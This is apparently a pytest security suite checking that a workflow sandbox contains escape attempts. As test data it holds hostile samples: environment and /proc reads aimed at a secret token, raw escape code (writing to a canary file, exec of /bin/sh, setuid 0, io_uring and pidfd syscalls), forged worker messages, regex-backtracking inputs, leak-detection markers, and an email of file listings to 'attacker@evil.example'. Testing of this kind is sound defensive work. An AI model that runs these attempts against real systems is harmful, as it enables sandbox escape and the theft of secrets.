"""Hostile workflows are contained: every escape attempt of ``tests/security_cases.py`` runs
against a real sandbox, and afterwards the host, the device and the sandbox must be as before.

Contained means: the run did not end ``ok``, or it was harmless — it changed only the device
tables the case allows. In every case the canary file on the host is unchanged with nothing
created beside it, the loopback listener accepted no connection, a failed run left the device
exactly as it was (and its database file byte-identical), every failure carries a clear error,
and a normal workflow still runs in the same sandbox afterwards.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from intentos.api.registry import default_registry
from intentos.codegen.check import CheckResult, check
from intentos.device.snapshot import diff
from intentos.device.store import Device
from intentos.execution import executor
from intentos.execution.approval import approve_all, refuse_all
from intentos.execution.executor import execute
from intentos.execution.record import ExecutionRecord
from intentos.sandbox import seccomp
from intentos.sandbox.limits import NOBODY, Limits
from intentos.sandbox.server import Sandbox
from tests.security_cases import ESCAPES, EscapeCase

LIMITS = Limits(wall_seconds=5, cpu_seconds=1, memory_mb=512, max_calls=200)
CANARY_TEXT = "canary: the host's own file, never to be read or changed by a workflow\n"
FOLLOW_UP = "print(get_current_time())\n"
# Signs that a workflow got hold of the interpreter's internals or the host's files.
LEAK_MARKERS = (
    "__builtins__",
    "_frozen_importlib",
    "catch_warnings",
    "_wrap_close",
    "__subclasses__",
    "environ(",
    "subprocess.Popen",
    "<module ",
    "<frame at ",
    "<code object ",
    "<cell at ",
    "<built-in function open>",
    "<built-in function __import__>",
    "<built-in function eval>",
    "root:x:0:0",
)
SECRET_NAME = "INTENTOS_TEST_SECRET_TOKEN"
SECRET_VALUE = "s3cr3t-7d1f0c-should-never-leak"


def _fill(code: str, *, canary: str, port: int, db: str) -> str:
    return code.replace("{CANARY}", canary).replace("{PORT}", str(port)).replace("{DB}", db)


def _refused_by_static_check(case: EscapeCase) -> bool:
    code = _fill(case.code, canary="/tmp/canary.txt", port=9, db="/tmp/device.sqlite")
    return not check(code, default_registry().table(case.profile).keys()).ok


# Cases the static check refuses also run with the check switched off: the policy layer and
# the process boundary must contain them on their own.
PAST_THE_CHECK = [case for case in ESCAPES if _refused_by_static_check(case)]


@dataclass
class Host:
    """What an escape would reach on the real machine."""

    folder: Path
    canary: Path
    listener: socket.socket

    @property
    def port(self) -> int:
        return int(self.listener.getsockname()[1])


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    box = Sandbox()
    box.start()
    yield box
    box.close()


@pytest.fixture
def host(tmp_path: Path) -> Iterator[Host]:
    folder = tmp_path / "host"
    folder.mkdir()
    canary = folder / "canary.txt"
    canary.write_text(CANARY_TEXT)
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        listener.setblocking(False)
        yield Host(folder, canary, listener)
    finally:
        listener.close()


def _file_digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _accepted_connection(listener: socket.socket) -> bool:
    try:
        connection, _ = listener.accept()
    except BlockingIOError:
        return False
    connection.close()
    return True


def _run(case: EscapeCase, device: Device, sandbox: Sandbox, host: Host) -> ExecutionRecord:
    code = _fill(case.code, canary=str(host.canary), port=host.port, db=str(device.path))
    return execute(
        code,
        device,
        profile=case.profile,
        approve=approve_all if case.approve_all else refuse_all,
        extract_code=False,
        limits=LIMITS,
        sandbox=sandbox,
    )


def _assert_contained(case: EscapeCase, device: Device, sandbox: Sandbox, host: Host) -> None:
    before = device.snapshot()
    database_before = _file_digest(device.path)
    started = time.monotonic()

    record = _run(case, device, sandbox, host)

    elapsed = time.monotonic() - started
    summary = f"{case.id}: {record.status} {record.error}"
    assert elapsed < LIMITS.wall_seconds + 4, f"{summary} took {elapsed:.1f} s"
    # The host: the canary is intact, nothing appeared beside it, nobody connected.
    assert host.canary.read_text() == CANARY_TEXT, summary
    assert [entry.name for entry in host.folder.iterdir()] == ["canary.txt"], summary
    assert not _accepted_connection(host.listener), f"{summary}: the listener was reached"
    # Nothing the workflow saw or showed came from the interpreter or the host.
    shown = json.dumps([line.text for line in record.screen] + [c.result for c in record.calls])
    assert not [marker for marker in LEAK_MARKERS if marker in shown], f"{summary}: {shown[:500]}"
    assert CANARY_TEXT.strip() not in record.to_json(), f"{summary}: the canary was read"
    # The device: a failed run changed nothing; a successful one only what the case allows.
    after = device.snapshot()
    changed = set(diff(before, after).tables)
    if record.status == "ok":
        assert changed <= case.allowed_tables, f"{summary} changed {sorted(changed)}"
    else:
        assert after == before, f"{summary} left changes in {sorted(changed)}"
        assert not record.committed, summary
        assert record.error is not None and record.error.message.strip(), (
            f"{case.id}: {record.status} without a clear error"
        )
    if not record.committed:
        assert _file_digest(device.path) == database_before, summary
    if not case.approve_all:
        assert not [call for call in record.calls if call.approved], summary
        assert not record.left_the_device, f"{summary}: something left without approval"
        assert all(item.delivery == "discarded" for item in record.outbox), summary
    # The sandbox: a normal workflow still runs.
    follow_up = execute(FOLLOW_UP, device, extract_code=False, limits=LIMITS, sandbox=sandbox)
    assert follow_up.status == "ok", f"after {case.id}: {follow_up.status} {follow_up.error}"
    assert [line.text for line in follow_up.screen] == [follow_up.calls[0].result]


def test_the_suite_covers_every_class() -> None:
    categories = {case.category for case in ESCAPES}
    assert len(ESCAPES) >= 70
    assert len({case.id for case in ESCAPES}) == len(ESCAPES), "case ids must be unique"
    assert {
        "frames",
        "format",
        "exceptions",
        "subclasses",
        "guard_shadowing",
        "computed_names",
        "builtins",
        "imports",
        "host_files",
        "network",
        "processes",
        "environment",
        "device_database",
        "try_star",
        "resources",
        "records",
    } <= categories


@pytest.mark.parametrize("case", ESCAPES, ids=[case.id for case in ESCAPES])
def test_escape_is_contained(
    case: EscapeCase, device: Device, sandbox: Sandbox, host: Host
) -> None:
    _assert_contained(case, device, sandbox, host)


@pytest.mark.parametrize("case", PAST_THE_CHECK, ids=[case.id for case in PAST_THE_CHECK])
def test_escape_is_contained_past_the_static_check(
    case: EscapeCase,
    device: Device,
    sandbox: Sandbox,
    host: Host,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(executor, "check", lambda code, api: CheckResult())
    _assert_contained(case, device, sandbox, host)


# -- the boundary, inspected from outside --------------------------------------------------


def test_isolation_is_reported(device: Device, sandbox: Sandbox) -> None:
    record = execute(FOLLOW_UP, device, extract_code=False, limits=LIMITS, sandbox=sandbox)
    assert record.status == "ok"
    assert record.isolation is not None
    assert record.isolation["network"] in {"namespace", "seccomp"}
    assert record.isolation["rlimits"] is True
    if os.getuid() == 0:
        assert record.isolation["user"] == "nobody"
        assert record.isolation["chroot"] is True


def test_workflow_cannot_see_the_parents_environment(
    device: Device, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(SECRET_NAME, SECRET_VALUE)
    box = Sandbox()
    try:
        box.start()
        assert box._process is not None
        worker_environment = Path(f"/proc/{box._process.pid}/environ").read_bytes()
        assert SECRET_VALUE.encode() not in worker_environment
        code = f"""
found = []
found.append(shell('env; printenv {SECRET_NAME}; echo ${SECRET_NAME}'))
for path in ['/proc/self/environ', '/proc/1/environ']:
    try:
        found.append(read_file(path))
    except ApiError as error:
        found.append(str(error))
found.append(str(get_device_info()))
print(found)
"""
        record = execute(
            code, device, approve=approve_all, extract_code=False, limits=LIMITS, sandbox=box
        )
        assert record.status == "ok", record.error
        assert SECRET_VALUE not in record.to_json()
        past_the_check = execute(
            "import os\nprint(os.environ)\n", device, extract_code=False, sandbox=box
        )
        assert past_the_check.status == "invalid"
    finally:
        box.close()


def _descriptor_targets(pid: int) -> dict[int, str]:
    targets: dict[int, str] = {}
    for entry in Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(FileNotFoundError):
            targets[int(entry.name)] = str(entry.readlink())
    return targets


def _database_files(device: Device) -> set[str]:
    base = str(device.path.resolve())
    return {base, f"{base}-journal", f"{base}-wal", f"{base}-shm"}


def test_worker_holds_no_descriptor_to_the_device(device: Device, sandbox: Sandbox) -> None:
    record = execute(FOLLOW_UP, device, extract_code=False, limits=LIMITS, sandbox=sandbox)
    assert record.status == "ok"
    assert sandbox._process is not None
    targets = _descriptor_targets(sandbox._process.pid)
    assert not set(targets.values()) & _database_files(device), targets
    assert set(targets) <= {0, 1, 2}, targets


def _worker_children(worker: int) -> list[int]:
    children = Path(f"/proc/{worker}/task/{worker}/children").read_text().split()
    return [int(pid) for pid in children]


def test_running_child_holds_only_its_pipes(device: Device, sandbox: Sandbox) -> None:
    sandbox.start()
    assert sandbox._process is not None
    worker = sandbox._process.pid
    results: list[ExecutionRecord] = []
    runner = threading.Thread(
        target=lambda: results.append(
            execute("while True:\n    pass\n", device, extract_code=False, limits=LIMITS,
                    sandbox=sandbox)
        )
    )  # fmt: skip
    runner.start()
    seen: dict[int, str] = {}  # the last look at the child, once it runs the workflow
    uid_line = ""
    while runner.is_alive():
        for child in _worker_children(worker):
            with contextlib.suppress(FileNotFoundError, ProcessLookupError, StopIteration):
                targets = _descriptor_targets(child)
                status = Path(f"/proc/{child}/status").read_text()
                if targets:  # not yet a zombie
                    seen = targets
                    uid_line = next(line for line in status.splitlines() if line.startswith("Uid:"))
        time.sleep(0.01)
    runner.join()
    assert results and results[0].status == "timeout"
    assert seen, "the child was never seen running"
    assert set(seen) <= {0, 1, 2}, seen
    assert not set(seen.values()) & _database_files(device)
    if os.getuid() == 0:
        assert uid_line.split()[1:] == [str(NOBODY)] * 4


# What a workflow could try if it ever got past the policy layer: plain Python in a confined
# child. Each attempt prints "blocked" or what it reached.
RAW_ESCAPES = r"""
import ctypes, encodings.idna, errno, json, os, socket, sys
sys.path[:0] = json.loads(sys.argv[1])
from intentos.sandbox import seccomp
from intentos.sandbox.limits import Limits, confine

canary, port, root = sys.argv[2], int(sys.argv[3]), sys.argv[4]
libc = ctypes.CDLL(None, use_errno=True)
library = seccomp._library()
numbers = {}
for name in ("io_uring_setup", "pidfd_open", "pidfd_getfd", "open_by_handle_at"):
    number = library.seccomp_syscall_resolve_name(name.encode()) if library else -1
    if number >= 0:
        numbers[name] = number
isolation = confine(Limits(cpu_seconds=2, memory_mb=512), keep_fds=(1, 2), empty_root=root)
results = {"isolation": isolation.as_dict()}

def attempt(name, action):
    try:
        results[name] = "reached: " + repr(action())[:80]
    except OSError as error:
        results[name] = "blocked: " + (errno.errorcode.get(error.errno) or str(error))

def syscall(name, *args):
    if name not in numbers:
        raise OSError(errno.ENOSYS, "not on this architecture")
    value = libc.syscall(numbers[name], *args)
    if value < 0:
        raise OSError(ctypes.get_errno(), name)
    return value

params = ctypes.create_string_buffer(120)
attempt("read canary", lambda: open(canary).read())
attempt("write canary", lambda: open(canary, "w").write("pwned"))
attempt("create file", lambda: open("/pwned", "w"))
attempt("list root", lambda: os.listdir("/"))
attempt("connect loopback", lambda: socket.create_connection(("127.0.0.1", port), 1))
attempt("fork", lambda: os.fork() or os._exit(0))
attempt("exec", lambda: os.execv("/bin/sh", ["sh", "-c", "id"]))
attempt("kill parent", lambda: os.kill(os.getppid(), 0))
attempt("setuid root", lambda: os.setuid(0))
attempt("chroot back", lambda: os.chroot("/.."))
attempt("io_uring", lambda: syscall("io_uring_setup", 8, ctypes.byref(params)))
attempt("pidfd_open parent", lambda: syscall("pidfd_open", os.getppid(), 0))
attempt("pidfd_getfd", lambda: syscall("pidfd_getfd", 0, 0, 0))
attempt("open_by_handle_at", lambda: syscall("open_by_handle_at", 0, 0, 0))
os.write(1, json.dumps(results).encode())
os._exit(0)
"""


def test_boundary_holds_without_the_policy_layer(tmp_path: Path, host: Host) -> None:
    root = tmp_path / "empty-root"
    root.mkdir()
    path = [entry for entry in sys.path if entry]
    finished = subprocess.run(
        [sys.executable, "-I", "-c", RAW_ESCAPES, json.dumps(path), str(host.canary),
         str(host.port), str(root)],
        capture_output=True, env={}, cwd="/", timeout=30, check=False,
    )  # fmt: skip
    assert finished.returncode == 0, finished.stderr.decode()[-2000:]
    results = json.loads(finished.stdout)
    isolation = results.pop("isolation")
    reached = {name: outcome for name, outcome in results.items() if outcome.startswith("reached")}
    if os.getuid() == 0 and seccomp.available():
        assert isolation["seccomp"] and isolation["chroot"], isolation
        assert not reached, reached
    for essential in ("read canary", "write canary", "connect loopback", "fork", "exec"):
        assert results[essential].startswith("blocked"), results
    assert host.canary.read_text() == CANARY_TEXT
    assert [entry.name for entry in host.folder.iterdir()] == ["canary.txt"]
    assert not list(root.iterdir())
    assert not _accepted_connection(host.listener)


# A child that got past the policy layer writes whatever it likes to the parent's pipe. These
# fake workers play such a child: the parent must neither crash nor act on forged reports.
HOSTILE_WORKER = r"""
import json, os, sys
sys.path[:0] = json.loads(sys.argv[1])
from intentos.sandbox.protocol import HEADER, read_frame, write_frame
write_frame(1, {"type": "ready", "pid": os.getpid()})
job = read_frame(0)
write_frame(1, {"type": "started", "pid": os.getpid(), "isolation": {}})
SCENARIO
while read_frame(0).get("type") != "stop":  # lurk, reading what the parent sends
    pass
"""

HOSTILE_SCENARIOS = {
    "forged-started-pid": 'write_frame(1, {"type": "started", "pid": VICTIM})',
    "not-json": 'os.write(1, HEADER.pack(9) + b"not json!")',
    "not-an-object": 'os.write(1, HEADER.pack(2) + b"[]")',
    "oversized-frame": "os.write(1, HEADER.pack(2**31))",
    "forged-done-and-exit": (
        'write_frame(1, {"type": "done", "status": "pwned", "error": "text"})\n'
        'write_frame(1, {"type": "exit", "code": "zero"})'
    ),
    "forged-error-line": (
        'write_frame(1, {"type": "done", "status": "error", "error": {"message": "m", "line": "x"}})\n'
        'write_frame(1, {"type": "exit", "code": 0})'
    ),
}


@pytest.mark.parametrize("scenario", sorted(HOSTILE_SCENARIOS))
def test_parent_survives_a_hostile_child(
    scenario: str, device: Device, monkeypatch: pytest.MonkeyPatch
) -> None:
    from intentos.sandbox import server  # noqa: PLC0415 - the module whose boot code is swapped

    victim = subprocess.Popen(["sleep", "60"])
    script = HOSTILE_SCENARIOS[scenario].replace("VICTIM", str(victim.pid))
    monkeypatch.setattr(server, "BOOT", HOSTILE_WORKER.replace("SCENARIO", script))
    before = device.snapshot()
    box = Sandbox()
    try:
        record = execute(
            FOLLOW_UP, device, extract_code=False, sandbox=box,
            limits=Limits(wall_seconds=1, cpu_seconds=1),
        )  # fmt: skip
        assert victim.poll() is None, "the parent killed a process the child named"
        assert record.status != "ok"
        assert record.error is not None and record.error.message.strip()
        assert device.snapshot() == before
    finally:
        box.close()
        victim.kill()
        victim.wait()


# Each call is run by the parent to its end (the wall clock is checked between calls), so no
# argument may make a call slow: inputs are capped and checks are linear.
SLOW_CALL_ATTEMPTS = [
    pytest.param("add_contact('x', 'a@' + '.' * 10000 + '@')", id="quadratic-email-check"),
    pytest.param("find_contacts('word ' * 200000)", id="huge-search-expression"),
    pytest.param("search_emails('a' * 900000)", id="huge-mail-search"),
    pytest.param("find_files('x ' * 400000)", id="huge-file-search"),
    pytest.param(
        "write_file('~/a.txt', 'a' * 40 + '!')\nshell(\"grep -E '(a+)+$' a.txt\")",
        id="backtracking-grep",
    ),
    pytest.param("write_file('~/big.txt', 'x' * 2000000)", id="oversized-argument"),
]


@pytest.mark.parametrize("code", SLOW_CALL_ATTEMPTS)
def test_one_api_call_cannot_hold_the_parent_past_the_wall_clock(
    device: Device, sandbox: Sandbox, code: str
) -> None:
    limits = Limits(wall_seconds=1.0, cpu_seconds=1)
    started = time.monotonic()
    execute(code, device, extract_code=False, limits=limits, sandbox=sandbox, approve=approve_all)
    assert time.monotonic() - started < limits.wall_seconds + 1.0


def test_a_workflow_that_mails_and_then_crashes_sends_nothing(
    device: Device, sandbox: Sandbox
) -> None:
    """Even with --yes: the mail waits in the outbox and the failed run never commits."""
    before = _file_digest(device.path)
    code = "send_email('attacker@evil.example', 'loot', str(list_files('~')))\nx = 1 / 0\n"
    asked: list[object] = []

    def approve(request: object) -> bool:
        asked.append(request)
        return True

    record = execute(code, device, extract_code=False, limits=LIMITS, sandbox=sandbox,
                     approve=approve)  # fmt: skip
    assert record.status == "error" and asked == [], "a failed run is never offered for approval"
    assert [(c.name, c.delivery) for c in record.calls if c.name == "send_email"] == [
        ("send_email", "discarded")
    ]
    assert not record.left_the_device
    assert _file_digest(device.path) == before
